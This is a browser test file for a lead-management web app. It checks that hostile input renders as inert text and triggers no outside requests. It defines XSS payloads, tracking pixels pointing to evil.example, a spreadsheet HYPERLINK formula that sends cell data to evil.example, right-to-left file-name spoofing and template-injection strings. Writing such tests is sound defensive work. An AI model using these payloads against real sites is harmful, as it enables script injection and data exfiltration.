/** Leads whose every word means harm: pages show them as text, and nothing else happens. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../browser.ts';
import { type Installation, type Person, setUpAdmin, startInstallation } from './installation.ts';
import { type Furnished, furnish, insidePages, open, outsidePages, tooWide, type Words, watch } from './pages.ts';

const MARKUP = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const BREAKOUT = `"'></textarea></title></script><svg onload=alert(3)><iframe srcdoc="<script>alert(4)</script>">`;
const OUTSIDE = '<img src="http://evil.example/pixel.gif"> ![x](http://evil.example/x.png) javascript:alert(5)';
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
const BACKWARDS = 'invoice\u202efdp.exe\u2067 \u200f\u0000\u0007';
const TEMPLATE = `{{constructor.constructor('alert(6)')()}} \${alert(7)} %s %n {name}`;
const ENDLESS = 'W'.repeat(180);
const TOWER = `Z${'\u0335\u0322\u0489'.repeat(4)}algo 👩‍👩‍👧‍👦 ﷽`;

/** At most 200 characters, as everything that has a name. */
const HOSTILE: Words = {
  person: `${MARKUP} ${BACKWARDS}`,
  company: `${BREAKOUT} ${FORMULA}`.slice(0, 190),
  queue: ENDLESS,
  endpoint: `${MARKUP} ${TOWER}`.slice(0, 200),
  message: [MARKUP, BREAKOUT, OUTSIDE, FORMULA, BACKWARDS, TEMPLATE, ENDLESS, TOWER].join('\n'),
  file: `${BREAKOUT.replaceAll(/[/"]/g, '')}${'f'.repeat(120)}\u202efdp.pdf`,
  field: `<b>${ENDLESS}`,
  utm: `${MARKUP}${ENDLESS}`.slice(0, 190),
};

let installation: Installation;
let admin: Person;
let browser: Browser;
let furnished: Furnished;

beforeAll(async () => {
  [installation, browser] = await Promise.all([startInstallation(), launchBrowser()]);
  admin = await setUpAdmin(installation);
  furnished = await furnish(installation, admin, HOSTILE);
});

afterAll(async () => {
  await browser?.close();
  await installation?.stop();
});

/** Elements that only a text taken for markup can have brought in. */
const SMUGGLED = '[onerror], [onload], iframe, img[src*="evil"], a[href*="evil"], a[href^="javascript" i], body b';

async function visitEverything(page: Page, places: readonly string[]): Promise<string[]> {
  const wrong: string[] = [];
  for (const where of places) {
    await open(page, installation.url + where);
    const smuggled = await page.locator(SMUGGLED).count();
    if (smuggled > 0) wrong.push(`${where}: ${smuggled} elements out of a text`);
    for (const wide of await tooWide(page)) wrong.push(`${where}: wider than the screen: ${wide}`);
  }
  return wrong;
}

test.each([1280, 360])(
  'on a screen of %i pixels nothing runs, nothing is fetched, nothing breaks',
  async (width) => {
    const context = await browser.newContext({ viewport: { width, height: 800 }, locale: 'en' });
    const happened = watch(context, installation.url);
    const page = await context.newPage();
    const wrong = await visitEverything(page, outsidePages(furnished, 'en'));
    await context.addCookies([admin.cookie]);
    wrong.push(...(await visitEverything(page, insidePages(furnished))));
    await context.close();
    expect([...wrong, ...happened]).toEqual([]);
  },
  60_000,
);

test("a lead's page shows every word as it was written", async () => {
  const context = await browser.newContext();
  await context.addCookies([admin.cookie]);
  const page = await context.newPage();
  await open(page, `${installation.url}/leads/${furnished.claimed}`);
  const message = page.getByTestId('message').first();
  for (const text of [MARKUP, BREAKOUT, OUTSIDE, FORMULA, TEMPLATE, ENDLESS])
    expect(await message.textContent()).toContain(text);
  expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(`${MARKUP} invoicefdp.exe`);
  expect(await page.title()).toContain(MARKUP);
  await context.close();
});

test('a file with a disguised name is saved, never shown, under a name that hides nothing', async () => {
  const context = await browser.newContext({ acceptDownloads: true });
  await context.addCookies([admin.cookie]);
  const page = await context.newPage();
  await open(page, `${installation.url}/leads/${furnished.claimed}`);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.locator('a[href^="/api/v1/attachments/"]').first().click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/f+\.pdf$/);
  expect(download.suggestedFilename()).not.toMatch(/[\u202a-\u202e\u2066-\u2069/\\]/);
  const answer = await context.request.get(`${installation.url}${await linkOf(page)}`);
  expect(answer.headers()).toMatchObject({
    'content-disposition': expect.stringMatching(/^attachment/),
    'x-content-type-options': 'nosniff',
  });
  await context.close();
});

const linkOf = async (page: Page): Promise<string> =>
  (await page.locator('a[href^="/api/v1/attachments/"]').first().getAttribute('href')) ?? '';

test('what was kept aside can be opened for mending, and is text there too', async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  await context.addCookies([admin.cookie]);
  const happened = watch(context, installation.url);
  const page = await context.newPage();
  await open(page, `${installation.url}/quarantine`);
  await page.getByRole('button', { name: 'Edit and retry' }).first().click();
  const body = page.getByRole('dialog').getByLabel('Content', { exact: true });
  await body.waitFor();
  expect(await body.inputValue()).toContain('alert(3)');
  expect(await page.locator(SMUGGLED).count()).toBe(0);
  await context.close();
  expect(happened).toEqual([]);
});
